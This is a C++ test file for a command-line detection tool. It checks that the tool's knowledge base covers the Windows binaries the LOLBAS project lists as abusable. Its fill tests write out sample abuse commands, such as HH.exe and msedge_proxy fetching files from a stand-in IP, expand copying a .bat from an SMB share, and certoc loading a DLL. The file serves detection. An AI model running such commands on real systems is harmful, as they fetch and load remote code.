// The knowledge base against the LOLBAS project's entries in ../shared/reference/lolbas (read in
// place, never copied; skipped when absent): every binary, library and script LOLBAS lists is
// either known to the knowledge base or excluded below with the reason, so nothing is missing
// silently. For each LOLBAS command (its placeholders filled with plain values, typed into
// `cmd /c`), some analysed command must be matched by an entry that names that binary
// (`programs`), or, for libraries and scripts run through a host program (rundll32, regsvr32,
// cscript, powershell...), by an entry more specific than the host program alone.
#include <gtest/gtest.h>
#include <yaml-cpp/yaml.h>

#include <algorithm>
#include <filesystem>
#include <map>
#include <regex>
#include <set>
#include <string>
#include <vector>

#include "cmdline/analyzer.h"
#include "cmdline/text.h"
#include "core/ascii.h"
#include "kb/knowledge_base.h"
#include "shipped_kb.h"
#include "testing.h"

namespace cmdsentry::kb {
namespace {

using testing_kb::known_program;
using testing_kb::lists_program;
using testing_kb::shipped;

// LOLBAS names (lower case) left out of the knowledge base, each with its reason. A name here
// that the knowledge base does cover fails the test too, so the list cannot go stale.
const std::map<std::string, std::string>& exclusions() {
  static const std::map<std::string, std::string> kExcluded = {
      // Not started from a shell with a telling command line: the abuse is a file planted
      // where the program looks, the command line is the program's everyday one.
      {"onedrivestandaloneupdater.exe",
       "runs as itself from a per-user scheduled task; the abuse is a registry value, not a "
       "command line"},
      {"appinstaller.exe",
       "reached through an ms-appinstaller: URL handed to `start`; the "
       "process command line is the handler's, not the attacker's"},
      {"dfsvc.exe", "the LOLBAS command runs rundll32 dfshim.dll (covered under Dfshim.dll)"},
      {"unregmp2.exe",
       "the abuse is a copied binary under a planted folder (covered by copy "
       "and environment-variable analysis), unregmp2 /HideWMP is everyday use"},
      {"code.exe",
       "Visual Studio Code; a developer tool whose every command line is also "
       "ordinary use (tunnel is covered by devtunnel-like entries when added)"},
      {"gfxdownloadwrapper.exe", "Intel driver helper, not a Windows or Microsoft binary"},
      {"teams.exe",
       "two of its three LOLBAS forms are a bare teams.exe (the abuse is a replaced "
       "app folder, nothing on the command line); --gpu-launcher is covered by "
       "'indirect command execution'"},
  };
  return kExcluded;
}

// One LOLBAS entry as the test reads it.
struct LolbasEntry {
  std::string category;  // OSBinaries, OSLibraries, OSScripts, OtherMSBinaries, ...
  std::string name;      // file name, lower case ("certutil.exe", "comsvcs.dll")
  std::vector<std::string> commands;
};

std::vector<LolbasEntry> read_lolbas(const std::filesystem::path& dir) {
  std::vector<LolbasEntry> out;
  for (const auto& f : std::filesystem::recursive_directory_iterator(dir)) {
    if (!f.is_regular_file() || f.path().extension() != ".yml") continue;
    const YAML::Node doc = YAML::LoadFile(f.path().string());
    LolbasEntry e;
    e.category = f.path().parent_path().filename().string();
    e.name = cmdline::to_lower(doc["Name"].as<std::string>());
    if (const YAML::Node cmds = doc["Commands"]) {
      for (const auto& c : cmds) e.commands.push_back(c["Command"].as<std::string>());
    }
    out.push_back(std::move(e));
  }
  std::sort(out.begin(), out.end(),
            [](const LolbasEntry& a, const LolbasEntry& b) { return a.name < b.name; });
  return out;
}

// Plain values for LOLBAS' placeholders ({PATH_ABSOLUTE:.dll}, {REMOTEURL}, {CMD}, {PID}...),
// the first line only, and a leading absolute path with blanks cut to the file name (typed
// unquoted, cmd.exe would split it).
std::string fill(std::string line) {
  line = line.substr(0, line.find_first_of("\r\n"));
  static const std::regex kPlaceholder(R"(\{([A-Za-z_ ]+)(?::([^}]*))?\})");
  std::string out;
  auto it = std::sregex_iterator(line.begin(), line.end(), kPlaceholder);
  std::size_t last = 0;
  for (; it != std::sregex_iterator(); ++it) {
    const std::smatch& m = *it;
    out += line.substr(last, static_cast<std::size_t>(m.position()) - last);
    last = static_cast<std::size_t>(m.position() + m.length());
    const std::string kind = m[1].str();
    std::string ext = m[2].str();
    if (ext == "folder") ext.clear();
    if (kind == "CMD") {
      out += "calc.exe";
    } else if (kind == "REMOTEURL") {
      out += "http://203.0.113.5/x" + ext;
    } else if (kind == "PATH_SMB") {
      out += "\\\\203.0.113.5\\s\\x" + ext;
    } else if (kind.starts_with("PATH")) {
      out += "C:\\t\\x" + ext;
    } else if (kind == "PID") {
      out += "624";
    } else if (kind == "CLSID") {
      out += "{00000000-0000-0000-0000-000000000001}";
    } else {
      out += "x";
    }
  }
  out += line.substr(last);
  static const std::regex kSpacedPath(R"(^[A-Za-z]:\\[^"]* [^"]*?\\([^\\ ]+\.(exe|EXE)))");
  return std::regex_replace(out, kSpacedPath, "$1");
}

std::string stem(std::string_view file) {
  const std::size_t dot = file.rfind('.');
  return std::string(dot == std::string_view::npos ? file : file.substr(0, dot));
}

enum class Verdict { kCovered, kMissed, kRenamedCopy };

// kCovered when some command of `line` (typed into cmd.exe) is matched by an entry for the
// binary, or, for a library or script, by an entry with a condition beyond its host program.
// kRenamedCopy when the binary is first copied under another name and never runs under its
// own: only the OriginalFileName of the process event can tell (src/cmdline/program.cpp).
Verdict covered(const LolbasEntry& l, const std::string& line) {
  const bool hosted = l.category == "OSLibraries" || l.category == "OSScripts";
  const std::string program = stem(l.name);
  // PowerShell dot-sourcing (`. script.ps1; Function args`) is typed into PowerShell.
  const std::string typed =
      line.starts_with(". ") ? "powershell -c \"" + line + "\"" : "cmd /c " + line;
  const cmdline::Analysis a = cmdline::analyze_command_line(typed);
  const bool runs = std::any_of(a.commands.begin(), a.commands.end(),
                                [&](const auto& c) { return c.program == program; });
  if (!hosted && !runs && ifind(line, "copy ") != std::string::npos) return Verdict::kRenamedCopy;
  for (const auto& c : a.commands) {
    for (const Entry* e : shipped().match_all(c)) {
      if (!hosted && c.program == program && lists_program(*e, program)) return Verdict::kCovered;
      if (hosted && std::all_of(e->match.begin(), e->match.end(),
                                [](const MatchSpec& m) { return m.specificity() > 1; }))
        return Verdict::kCovered;
    }
  }
  return Verdict::kMissed;
}

class LolbasCoverage : public ::testing::Test {
 protected:
  void SetUp() override {
    const auto ref = testing::shared_reference();
    if (ref.empty()) GTEST_SKIP() << "../shared/reference is absent: no LOLBAS data to check";
    entries_ = read_lolbas(ref / "lolbas" / "yml");
    if (entries_.empty()) GTEST_SKIP() << "../shared/reference/lolbas/yml holds no entries";
  }
  std::vector<LolbasEntry> entries_;
};

TEST_F(LolbasCoverage, every_entry_is_in_the_knowledge_base_or_excluded_with_a_reason) {
  std::size_t checked = 0;
  for (const LolbasEntry& l : entries_) {
    const auto ex = exclusions().find(l.name);
    bool all = !l.commands.empty();
    std::size_t seen = 0;
    std::string missed;
    for (const std::string& raw : l.commands) {
      const std::string line = fill(raw);
      const Verdict v = covered(l, line);
      if (v == Verdict::kRenamedCopy) continue;
      ++seen;
      if (v == Verdict::kMissed) {
        all = false;
        missed = line;
      }
    }
    if (seen == 0) all = false;
    if (ex != exclusions().end()) {
      EXPECT_FALSE(all) << l.category << "/" << l.name
                        << " is covered by the knowledge base: drop its exclusion";
      continue;
    }
    ++checked;
    EXPECT_TRUE(all) << l.category << "/" << l.name
                     << ": no knowledge-base entry for this LOLBAS command: " << missed;
  }
  EXPECT_GT(checked, 200u);
}

// Every exclusion names a LOLBAS entry that exists (a renamed or removed entry is noticed).
TEST_F(LolbasCoverage, every_exclusion_names_a_lolbas_entry) {
  std::set<std::string> names;
  for (const LolbasEntry& l : entries_) names.insert(l.name);
  for (const auto& [name, why] : exclusions()) {
    EXPECT_TRUE(names.count(name)) << name << " is excluded but not in LOLBAS (" << why << ")";
    EXPECT_FALSE(why.empty()) << name;
  }
}

// The placeholder filling itself: what the coverage check types.
TEST(LolbasFill, placeholders_become_plain_values) {
  EXPECT_EQ(fill("certoc.exe -LoadDLL {PATH_ABSOLUTE:.dll}"), "certoc.exe -LoadDLL C:\\t\\x.dll");
  EXPECT_EQ(fill("HH.exe {REMOTEURL:.chm}"), "HH.exe http://203.0.113.5/x.chm");
  EXPECT_EQ(fill("expand {PATH_SMB:.bat} {PATH_ABSOLUTE:folder}"),
            "expand \\\\203.0.113.5\\s\\x.bat C:\\t\\x");
  EXPECT_EQ(fill("C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge_proxy.exe "
                 "{REMOTEURL:.zip}"),
            "msedge_proxy.exe http://203.0.113.5/x.zip");
}

}  // namespace
}  // namespace cmdsentry::kb
